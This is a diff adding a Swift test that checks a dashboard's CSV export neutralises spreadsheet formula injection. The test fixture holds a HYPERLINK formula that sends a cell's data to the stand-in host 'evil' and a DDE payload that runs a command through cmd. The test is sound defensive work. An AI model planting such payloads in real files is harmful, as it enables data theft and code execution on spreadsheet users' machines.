@@ -53,4 +53,20 @@ struct CSVDownloadTests {
             #expect(text.contains("A06,钱六,AUTO,机器人工程,本科,,未填写,"))
         }
     }
+
+    @Test func downloadedCellsCannotBeFormulas() async throws {
+        let harness = try DashboardHarness()
+        let name = "=HYPERLINK(\"http://evil/?\"&B2,\"点击\")"
+        try harness.central.write(.graduate("A99", in: "AUTO"), fields: [
+            "student_no": .string("A99"), "name": .string(name), "gender": .string("1"), "degree_level": .string("本科"),
+            "grad_year": .integer(2025), "major_name": .string("@SUM(1+1)*cmd|' /C calc'!A0"),
+        ], mode: .create, author: "fixture")
+        try await harness.test { client in
+            let cookie = try await client.sessionCookie(token: harness.centralToken)
+            let text = try await client.get("/departments/AUTO?format=csv&table=unplaced", cookie: cookie).text
+            #expect(text.contains("A99,\"'=HYPERLINK(\"\"http://evil/?\"\"&B2,\"\"点击\"\")\",AUTO,'@SUM(1+1)*cmd|' /C calc'!A0,本科,"), "\(text)")
+            let majors = try await client.get("/departments/AUTO?format=csv&table=majors", cookie: cookie).text
+            #expect(majors.contains("\r\n'@SUM(1+1)*cmd|' /C calc'!A0,"), "\(majors)")
+        }
+    }
 }
